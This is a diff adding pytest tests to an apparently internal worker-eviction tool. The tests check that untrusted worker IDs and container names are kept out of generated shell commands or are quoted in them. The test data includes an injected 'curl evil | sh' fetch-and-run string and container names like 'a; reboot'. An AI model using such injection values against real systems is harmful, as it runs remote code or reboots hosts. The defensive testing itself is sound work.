@@ -432,3 +432,38 @@ def test_worker_of_an_adopted_project_is_ours() -> None:
     about = eviction.hosts_of({"h1": variables(__eviction_read=read, __eviction_release=releases), "s1": {}}, GROUPS)["h1"]
     assert eviction.is_ours(about, "h1", about["workers"][0])
     assert not eviction.is_ours({**about, "adopted": {}}, "h1", about["workers"][0])
+
+
+# --- what a stranger's log and container may say ---------------------------------------------------------------------
+
+EVIL = "AW_1; curl evil | sh #"
+
+
+def test_id_that_no_server_makes_is_in_no_command() -> None:
+    strange = worker("AW_F", worker_ids=[EVIL, "AW_F"])
+    text, document = report(case({"h1": host(ours()), "s1": suspect(strange)}))
+    assert EVIL not in text + json.dumps(document)
+
+
+def test_worker_with_nothing_but_such_an_id_has_none() -> None:
+    found = eviction.Worker("h1", worker(EVIL), ours=False, pool="", servers=frozenset())
+    assert found.ids == set()
+    assert "kill" in str(eviction.why_not(case(), found))
+
+
+@pytest.mark.parametrize(
+    ("kind", "container", "command"),
+    [
+        ("docker", "agent-1", "docker kill --signal TERM agent-1"),
+        ("docker", "a; reboot", "docker kill --signal TERM 'a; reboot'"),
+        ("docker", "--all", "docker kill --signal TERM -- --all"),
+        ("none", "process 7", "kill -TERM 7"),
+    ],
+)
+def test_command_by_hand_is_quoted(kind: str, container: str, command: str) -> None:
+    assert eviction.by_hand(worker("", kind=kind, container=container, pid=7)) == command
+
+
+def test_record_of_another_form_names_nobody() -> None:
+    assert eviction.ids_of({"worker_id": EVIL, "worker_ids": None}) == []
+    assert eviction.ids_of({"worker_id": "AW_1", "worker_ids": [EVIL, 7]}) == ["AW_1"]
